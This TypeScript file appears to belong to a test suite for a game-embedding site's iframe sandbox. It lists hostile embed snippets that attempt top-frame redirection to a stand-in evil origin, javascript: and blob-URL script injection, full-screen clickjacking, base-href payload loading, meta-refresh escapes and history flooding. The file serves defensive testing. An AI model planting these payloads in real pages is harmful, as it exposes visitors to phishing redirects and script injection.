/** Owns the embed codes that send the page of the site, or the frame, somewhere else. */
import { EVIL_ORIGIN, type HostileEmbed, script, TELL } from './kind'

export const NAVIGATING: readonly HostileEmbed[] = [
  {
    name: 'top location',
    attempts: 'sends the site’s page away by location, in every spelling',
    code: script(`
var ways = [
  function () { top.location = '${EVIL_ORIGIN}/1' },
  function () { top.location.href = '${EVIL_ORIGIN}/2' },
  function () { top.location.replace('${EVIL_ORIGIN}/3') },
  function () { parent.location = '${EVIL_ORIGIN}/4' },
  function () { window.open('${EVIL_ORIGIN}/5', '_top') },
  function () { window.open('${EVIL_ORIGIN}/6', '_parent') }
]
ways.forEach(function (way) { try { way() } catch (error) {} })
tell('tried')`),
    watch: ['top page', 'requests'],
  },
  {
    name: 'top hash',
    attempts: 'changes only the hash of the site’s address',
    code: script(
      `try { top.location.hash = 'taken' } catch (error) {}; try { top.location = '#taken' } catch (error) {}; tell('tried')`,
    ),
    watch: ['top page'],
  },
  {
    name: 'top javascript',
    attempts: 'runs a script in the site’s page by a javascript: address',
    code: script(`
try { top.location = 'javascript:document.title="taken"' } catch (error) {}
try { parent.location.replace('javascript:document.body.innerHTML="taken"') } catch (error) {}
try { window.open('javascript:document.title="taken"', '_top') } catch (error) {}
tell('tried')`),
    watch: ['top page', 'storage'],
  },
  {
    name: 'link to top',
    attempts: 'clicks a link with target=_top by itself',
    code: `${TELL}<a id="a" target="_top" href="${EVIL_ORIGIN}/link">x</a><a id="b" target="_parent" href="${EVIL_ORIGIN}/parent">x</a><script>a.click(); b.click(); tell('tried')</script>`,
    watch: ['top page', 'requests'],
  },
  {
    name: 'link to top under the finger',
    attempts: 'has the visitor click a link with target=_top',
    code: `${TELL}<a id="go" target="_top" style="position:fixed;inset:0;font-size:90px" href="${EVIL_ORIGIN}/clicked">PLAY</a><script>tell('tried')</script>`,
    watch: ['top page', 'requests'],
    clicks: true,
  },
  {
    name: 'form to top',
    attempts: 'sends a form to the top window',
    code: `${TELL}<form id="f" target="_top" method="post" action="${EVIL_ORIGIN}/form"><input name="q" value="1"></form><script>f.submit(); tell('tried')</script>`,
    watch: ['top page', 'requests'],
  },
  {
    name: 'form to our origin',
    attempts: 'posts a form to our own origin with the visitor’s cookies',
    code: `${TELL}<form id="f" method="post" action="/"><input name="q" value="1"></form><form id="g" target="_top" action="/games/snake"></form><script>f.submit(); g.submit(); tell('tried')</script>`,
    watch: ['top page', 'requests'],
  },
  {
    name: 'base target',
    attempts: 'points every link at the top window by <base>',
    code: `<base target="_top" href="${EVIL_ORIGIN}/">${TELL}<a id="a" href="base">x</a><script>a.click(); tell('tried')</script>`,
    watch: ['top page', 'requests'],
  },
  {
    name: 'base href',
    attempts: 'makes relative addresses mean another site, or ours',
    code: `<base href="${EVIL_ORIGIN}/"><base href="//evil.example/">${TELL}<script src="payload.js"></script><script>attempt('base', function () { return document.baseURI.indexOf('evil.example') >= 0 ? document.baseURI : '' })</script>`,
    watch: ['outcome', 'top page'],
  },
  {
    name: 'meta refresh',
    attempts: 'sends its own frame to another site without a script',
    code: `<meta http-equiv="refresh" content="0; url=${EVIL_ORIGIN}/refresh"><p>one moment</p>`,
    watch: ['top page', 'alive'],
    leaves: true,
  },
  {
    name: 'meta refresh to javascript',
    attempts: 'runs a script by a refresh to a javascript: or data: address',
    code: `${TELL}<meta http-equiv="refresh" content="0; url=javascript:tell('breach: refresh')"><meta http-equiv="refresh" content="0; url=data:text/html,<script>parent.document.title='taken'</script>"><script>tell('tried')</script>`,
    watch: ['outcome', 'top page'],
    leaves: true,
  },
  {
    name: 'own frame to another site',
    attempts: 'replaces itself with a page that imitates the site',
    code: script(`location.replace('${EVIL_ORIGIN}/imitation')`),
    watch: ['top page', 'alive'],
    leaves: true,
  },
  {
    name: 'own frame to our home page',
    attempts: 'loads our own site inside its frame, to be clicked by mistake',
    code: script(`location.href = '/'`),
    watch: ['top page', 'storage', 'alive'],
    leaves: true,
  },
  {
    name: 'own frame elsewhere, busy while it goes',
    attempts: 'is heard once more after the page that imitates the site has come',
    code: script(`
location.replace('${EVIL_ORIGIN}/imitation')
for (var until = Date.now() + 700; Date.now() < until; ) {}`),
    watch: ['top page', 'alive'],
    leaves: true,
  },
  {
    name: 'own frame to a blob',
    attempts: 'replaces itself with a page made on the spot, without the host page’s policy',
    code: script(`
var page = '<script>try { parent.document.title = "taken" } catch (error) {}</scr' + 'ipt>made here'
location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' }))`),
    watch: ['top page', 'alive'],
    leaves: true,
  },
  {
    name: 'reload in circles',
    attempts: 'reloads its frame again and again, to be handed the markup or a port twice',
    code: script(`setTimeout(function () { location.reload() }, 30); tell('tried')`),
    watch: ['top page', 'alive'],
    leaves: true,
  },
  {
    name: 'history back',
    attempts: 'leaves the game by history.back and history.go',
    code: script(
      `history.back(); history.go(-2); setTimeout(function () { history.go(-1) }, 200); tell('tried')`,
    ),
    watch: ['top page'],
  },
  {
    name: 'history flood',
    attempts: 'fills the history so that the Back button no longer leads out',
    code: script(`
for (var i = 0; i < 100; i++) {
  try { history.pushState(i, '', '#' + i) } catch (error) {}
  try { location.hash = 'h' + i } catch (error) {}
}
tell('tried')`),
    watch: ['top page', 'alive'],
  },
  {
    name: 'javascript in its own frame',
    attempts: 'goes through javascript: addresses in links, frames and its own location',
    code: `${TELL}<a id="a" href="javascript:parent.document.title='taken'">x</a><iframe src="javascript:top.document.title='taken'"></iframe><script>a.click(); try { location = "javascript:parent.document.title='taken'" } catch (error) {} tell('tried')</script>`,
    watch: ['top page'],
  },
]
